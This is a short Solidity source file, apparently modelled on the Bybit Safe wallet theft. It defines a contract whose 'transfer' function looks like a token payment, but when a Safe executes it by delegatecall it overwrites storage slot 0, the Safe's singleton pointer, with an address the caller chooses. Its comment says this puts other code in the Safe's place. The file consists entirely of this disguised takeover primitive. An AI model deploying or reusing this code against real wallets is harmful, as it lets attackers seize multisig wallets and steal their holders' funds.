// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

/// Reads like a payment of a token. Run as the Safe itself, it puts other code in the Safe's place: slot 0 is the singleton.
contract BybitShape {
    uint256 private first;

    function transfer(address to, uint256) external returns (bool) {
        first = uint256(uint160(to));
        return true;
    }
}
